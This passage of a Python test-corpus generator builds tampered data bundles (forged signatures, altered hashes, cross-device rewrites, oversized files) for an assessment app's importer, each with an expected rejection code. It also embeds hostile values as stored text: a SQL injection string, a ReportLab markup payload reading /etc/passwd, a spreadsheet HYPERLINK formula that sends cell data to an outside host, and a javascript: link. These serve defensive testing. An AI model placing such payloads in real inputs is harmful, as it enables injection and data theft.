                             "mime": "image/jpeg", "width": 32, "height": 24,
                             "created_at": CREATED_AT})
    name, files, manifest = c.parts("orphan")
    files[RECORDS_PATH] = dumps_canonical(records)
    files[media_path(hashlib.sha256(_jpeg()).hexdigest(), "image/jpeg")] = _jpeg()
    c.add("a listed image no record refers to", name, c.resign(manifest, files),
          "bundle.orphan_file")
    name, files, manifest = c.parts("recmismatch")
    manifest["records"][0]["revision"] = 2
    c.add("manifest record differs from the data", name, c.resign(manifest, files),
          "bundle.record_mismatch")
    records = _records(c.data)
    answers = records["assessments"][0]["answers"]
    victim = next(x for x in answers if x["value"] and not x["row_id"])
    victim["value"] = victim["value"] + " (diubah)"
    js("content", dumps_canonical(records), "an answer changed, content hash kept",
       "bundle.content_mismatch")
    # ---------------------------------------------------------- the trust chain (issue 9)
    records = _records(c.data)
    records["assessments"][0]["verdict"] = "pass" if records["assessments"][0]["verdict"] \
        != "pass" else "fail"
    records["assessments"][0]["score_percent"] = 100.0
    js("derived", dumps_canonical(records), "a verdict and score the answers do not give",
       "bundle.derived_mismatch")
    records = _records(c.data)
    gone = {g["media_sha256"] for g in records["assessments"][0]["signatures"]}
    records["assessments"][0]["signatures"] = []
    records["media"] = [m for m in records["media"] if m["sha256"] not in gone]
    name, raw, _ = c.build("lockednosig", data=BundleData.model_validate(records))
    c.add("'locked' with no signature at all", name, raw, "bundle.status_mismatch")
    forged = base64.b64encode(crypto.sign(STRANGER.private, b"not this")).decode()
    report_row = {"id": "e" * 32, "kind": "assessment", "template_id": None,
                  "verification_code": "X", "content_sha256": None, "pdf_sha256": "f" * 64,
                  "paper": "a4", "lang": "id", "pages": 1, "created_at": CREATED_AT}
    # (label, where in the first record, the lie, what, expected code)
    lies: list[tuple[str, tuple[Any, ...], Any, str, str]] = [
        ("sigbound", ("signatures", 0, "content_sha256"), "0" * 64,
         "a signature bound to another content hash", "bundle.bad_record_signature"),
        ("sigforged", ("signatures", 0, "signature"), forged,
         "a signer's signature made by another key", "bundle.bad_record_signature"),
        ("signame", ("signatures", 0, "signer_name"), "Nama Lain",
         "a signer's name changed after signing", "bundle.bad_record_signature"),
        ("papercode", ("verification_code",), "0000-0000-0000-0000",
         "a paper code that is not the device's", "bundle.bad_code"),
        ("badtime", ("signatures", 0, "signed_at"), "2026-13-45T99:99:99Z",
         "a timestamp 2026-13-45T99:99:99Z", "bundle.bad_timestamp"),
        ("future", ("finalised_at",), "2099-01-01T00:00:00.000Z",
         "a time more than a day in the future", "bundle.future_timestamp"),
        ("reportrows", ("reports",), [report_row],
         "rendered-report rows offered as proof", "bundle.schema"),
    ]
    for label, path, value, what, expect in lies:
        records = _records(c.data)
        target = records["assessments"][0]
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        js(label, dumps_canonical(records), what, expect)
    # laptop B (enrolled) sends revision 2 of the assessment laptop A (DEVICE) owns: every
    # answer rewritten, correctly signed by B
    a0r = RevisionData.model_validate(_records(c.data)["assessments"][0])
    rewrite = sign_revision(a0r, template, SECOND,
                            id="b2" * 16, revision=2, supersedes=1,
                            revision_reason="ditulis ulang oleh laptop lain")
    records = _records(c.data)
    records["assessments"] = [json.loads(rewrite.model_dump_json())]
    name, raw, _ = c.build("notowner", key=SECOND, data=BundleData.model_validate(records))
    c.add("a second enrolled laptop rewrites another laptop's assessment", name, raw,
          "bundle.not_owner")
    # the same rewrite inside a bundle signed by A's key but authored by B
    name, raw, _ = c.build("foreign", data=BundleData.model_validate(records))
    c.add("a record made by another device inside this device's bundle", name, raw,
          "bundle.foreign_record")

    records = _records(c.data)
    records["templates"][0]["source"] += "\n# changed"
    js("template", dumps_canonical(records), "template source that does not match its id",
       "bundle.bad_template")
    copy = fresh_copy(a0, template, "ref", institution_id="5" * 32)
    records = _records(c.data)
    records["institutions"] = []
    records["assessments"] = [json.loads(copy.model_dump_json())]
    name, raw, _ = c.build("ref", data=BundleData.model_validate(records))
    c.add("refers to an institution the office does not have", name, raw,
          "bundle.bad_reference")
    records = _records(c.data)
    records["templates"] = []
    records["assessments"][0]["template_id"] = "7" * 64
    js("tref", dumps_canonical(records), "refers to a template nobody has",
       "bundle.bad_reference")
    records = _records(c.data)
    records["assessments"][0]["answers"][0]["row_id"] = "9" * 32
    js("rowref", dumps_canonical(records), "answer in a repeat row that does not exist",
       "bundle.bad_reference")

    # ---------------------------------------------------------- hostile values, stored as text
    payloads = {
        "sql": "'); DROP TABLE assessment;--",
        "reportlab": '<font color="[[[getattr(pow, Word(\'__globals__\'))]]]">x</font>'
                     '<img src="file:///etc/passwd"/>',
        "csv": '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
        "qt": '<img src="file:///etc/passwd"><a href="javascript:alert(1)">x</a>',
    }
    for label, text in payloads.items():
        inst = dict(_records(c.data)["institutions"][0])
        inst_id = hashlib.sha256(f"inst:{label}".encode()).hexdigest()[:32]
        inst.update(id=inst_id, name=text)
        copy = fresh_copy(a0, template, label, institution_id=inst_id, subject_name=text,
                          revision_reason=None, snapshot_institution=inst)
        records = _records(c.data)
        records["institutions"] = [inst]
        records["assessments"] = [json.loads(copy.model_dump_json())]
        # the base record's consent names the base institution, which this variant drops
        records["consent_register"] = []
        data_variant = BundleData.model_validate(records)
        name, raw, _ = c.build(f"value-{label}", data=data_variant)
        c.add(f"hostile text stored verbatim: {label}", name, raw, "imported",
              outcome="accepted")
        c.cases[-1]["payload"] = text
        c.cases[-1]["assessment_id"] = copy.assessment_id

    big = outdir / c.hostile_name("huge")
    with open(big, "wb") as f:
        f.truncate(201 * 1024 * 1024)  # sparse: takes no disk space
    c.cases.append({"file": big.name, "what": "a 201 MB file", "expect": "bundle.too_large",
                    "outcome": "refused"})

    corpus = {
        "format": 1,
        "device": {"name": "Laptop korpus", "ed25519_public": DEVICE.public_b64,
                   "device_id": DEVICE.device_id},
        "second_device": {"name": "Laptop kedua", "ed25519_public": SECOND.public_b64,
                          "device_id": SECOND.device_id},
        "revoked_device": {"name": "Laptop dicabut", "ed25519_public": REVOKED.public_b64,
                           "device_id": REVOKED.device_id},
        "office": {"device_id": crypto.device_id_for(OFFICE_ED.public),
                   "ed25519_private": base64.b64encode(OFFICE_ED.private).decode(),
                   "ed25519_public": OFFICE_ED.public_b64,
                   "x25519_private": base64.b64encode(OFFICE_X.private).decode(),
                   "x25519_public": base64.b64encode(OFFICE_X.public).decode()},
        "setup": c.setup,
        "cases": c.cases,
    }
    (outdir / "corpus.json").write_text(json.dumps(corpus, indent=1, ensure_ascii=False),
                                        encoding="utf-8")
    return corpus


def manifest_bytes_of(manifest: dict[str, Any]) -> bytes:
    return dumps_canonical(manifest, indent=1) + b"\n"


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        sys.stderr.write("usage: make_hostile_bundles.py OUTDIR\n")
        return 2
    corpus = build_corpus(Path(args[0]))
    refused = sum(1 for x in corpus["cases"] if x["outcome"] == "refused")
    print(f"{len(corpus['cases'])} files ({refused} to be refused) in {args[0]}")
    return 0


__all__ = ["build_corpus", "manifest_bytes", "main"]

if __name__ == "__main__":
    raise SystemExit(main())
